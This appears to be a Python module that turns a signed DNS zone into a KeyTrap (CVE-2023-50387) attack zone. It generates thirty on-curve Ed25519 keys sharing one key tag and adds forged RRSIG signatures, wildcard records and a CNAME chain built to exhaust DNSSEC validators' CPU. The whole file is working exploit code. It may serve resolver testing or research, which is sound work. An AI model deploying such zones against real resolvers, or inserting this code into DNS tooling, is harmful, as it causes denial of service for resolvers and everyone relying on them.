"""Zones made to cost a validator time: what `sign` does to a signed zone so that it becomes an attack.

KeyTrap (CVE-2023-50387): keys that share one tag, and signatures that each of them may have made. The keys are points
of the curve and the signatures in range, so that none is thrown out before the arithmetic that costs. What is random
here comes out the same each time.
"""

import base64
import random
import re

KEYS = 30            # with one tag; few enough that a validator which looks at 32 keys of a zone sees the true one too
SIGNATURES = 40      # of one set
SMALL = 8            # of a set that still fits into a UDP message
CHAIN = 12           # aliases
ED25519 = 15
PRIME = 2 ** 255 - 19
D = -121665 * pow(121666, -1, PRIME) % PRIME  # of RFC 8032 5.1


def key_tag(rdata):
    """RFC 4034 appendix B."""
    total = sum(octet << 8 if at % 2 == 0 else octet for at, octet in enumerate(rdata))
    return (total + (total >> 16)) & 0xFFFF


def on_the_curve(octets):
    y = int.from_bytes(octets, "little") & (2 ** 255 - 1)
    square = (y * y - 1) * pow(D * y * y + 1, -1, PRIME) % PRIME
    return y < PRIME and square != 0 and pow(square, (PRIME - 1) // 2, PRIME) == 1


def keys_of_one_tag(count, tag, source):
    """DNSKEY rdata as text: different keys, all with this tag."""
    found = []
    while len(found) < count:
        head = bytes([1, 0, 3, ED25519]) + source.randbytes(30)
        for last in range(0x10000):
            rdata = head + last.to_bytes(2, "big")
            if key_tag(rdata) == tag:
                if on_the_curve(rdata[4:]):
                    found.append(f"256 3 {ED25519} {base64.b64encode(rdata[4:]).decode()}")
                break
    return found


def false_signatures(line, count, source, tag=None):
    """So many RRSIG lines like `line`, each with another signature that is none; by the key `tag`, else the same."""
    head, own, signer = re.match(r"(.*\s\d{14}\s\d{14}\s)(\d+)(\s\S+)\s", line).groups()
    for _ in range(count):
        octets = source.randbytes(63) + b"\x0f"  # its second half, a number, is below the group's order
        yield f"{head}{own if tag is None else tag}{signer} {base64.b64encode(octets).decode()}\n"


def trap_records(zone):
    """What is to be signed besides the ordinary records; the keys of one tag among them."""
    lines = [f"{zone} DNSKEY {rdata}\n" for rdata in keys_of_one_tag(KEYS, 4711, random.Random(zone))]
    lines += ["*.trap A 192.0.2.71\n", "*.big A 192.0.2.75\n", "jam A 192.0.2.72\n", "cram A 192.0.2.73\n", f"c{CHAIN} A 192.0.2.74\n"]
    lines += [f"c{i} CNAME c{i + 1}\n" for i in range(CHAIN)]
    return "".join(lines)


def spring(zone, signed):
    """The signed zone with false signatures: `www` and `*.big` have many by the many keys, `*.trap` few of them, `cram` one, `jam` many
    by the true key, and each link of the chain `c0` three before the true one."""
    source = random.Random(zone + "signatures")
    lines = []
    for line in signed.splitlines(keepends=True):
        found = re.match(rf"(\S+)\.{re.escape(zone)}\s.*\sRRSIG\s+(A|CNAME)\s", line)
        owner = found.group(1) if found else None
        if owner in ("www", "*.big"):
            lines += false_signatures(line, SIGNATURES, source, 4711)
        elif owner == "*.trap":
            lines += false_signatures(line, SMALL, source, 4711)
        elif owner == "cram":
            lines += false_signatures(line, 1, source, 4711)
        elif owner == "jam":
            lines += false_signatures(line, SIGNATURES, source)
        elif owner is not None and re.fullmatch(r"c\d+", owner):
            lines += [*false_signatures(line, 3, source), line]
        else:
            lines.append(line)
    return "".join(lines)
